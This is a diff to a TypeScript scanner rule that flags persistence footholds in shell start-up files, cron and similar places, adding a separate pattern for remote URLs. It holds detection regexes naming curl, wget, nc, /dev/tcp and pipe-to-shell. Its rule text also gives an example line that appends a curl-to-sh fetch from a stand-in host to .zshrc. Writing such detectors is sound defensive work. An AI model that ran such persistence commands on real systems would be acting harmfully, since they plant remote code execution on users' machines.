@@ -5,7 +5,9 @@ import type { Severity } from '../../engine/scan-report.types';
 import type { Rule, RuleHit } from '../rule.types';
 
 /** What a persisted line or file does that makes it a foothold: fetches, opens a shell, decodes. */
-const REMOTE_OR_SHELL = /\b(?:curl|wget|nc|ncat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|invoke-expression|iex)\b|https?:\/\/|\/dev\/tcp\/|\bbash\s{1,3}-i\b|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,3}(?:ba|z)?sh\b/i;
+const REMOTE_OR_SHELL = /\b(?:curl|wget|nc|ncat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|invoke-expression|iex)\b|\/dev\/tcp\/|\bbash\s{1,3}-i\b|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,3}(?:ba|z)?sh\b/i;
+/** A remote address in a persisted line (a proxy or base URL exported for every later shell). */
+const REMOTE_ADDRESS = /\b(?:https?|wss?):\/\//i;
 /** A start-up line a tool's own installer adds: PATH, a tool's init/completion hook, sourcing a local env file. */
 const TOOL_SETUP_LINE = /^\s{0,8}(?:export\s{1,3}PATH=|PATH=|fpath=|eval\s{1,3}["']?\$\([\w.-]{1,40}\s{1,3}(?:init|env|completion|shellenv|hook|activate)\b|(?:source|\.)\s{1,3}["']?(?:~|\$HOME|\/)[^\s;|&]{1,200}["']?\s{0,3}$|complete\s|autoload\s|alias\s{1,3}(?!sudo=)[\w-]{1,40}=)/i;
 const BIN_FOLDER = /(?:^|\/)(?:usr\/local\/bin|opt\/homebrew\/bin|\.local\/bin|bin)\/([\w.-]{1,60})$/;
@@ -68,6 +70,7 @@ function writtenContent(calls: readonly CodeCall[], i: number): string | null {
 function gradeContent(content: string | null): { severity: Severity; what: string } {
   if (content === null) return { severity: 'high', what: 'code' };
   if (REMOTE_OR_SHELL.test(content)) return { severity: 'critical', what: 'a command that fetches code or opens a shell' };
+  if (REMOTE_ADDRESS.test(content)) return { severity: 'high', what: 'a line naming a remote address' };
   const lines = content.split(/\\n|\n/).filter((l) => l.trim().length > 0);
   if (lines.length > 0 && lines.every((l) => TOOL_SETUP_LINE.test(l))) return { severity: 'low', what: 'a tool\u2019s own PATH or init line' };
   return { severity: 'high', what: 'code' };
@@ -90,7 +93,7 @@ export const privPersistenceCodeRule: Rule = {
       'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
     example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
   },
-  regexes: [REMOTE_OR_SHELL, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
+  regexes: [REMOTE_OR_SHELL, REMOTE_ADDRESS, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
   match(ctx) {
     const { calls } = codeFactsOf(ctx);
     const hits: RuleHit[] = [];
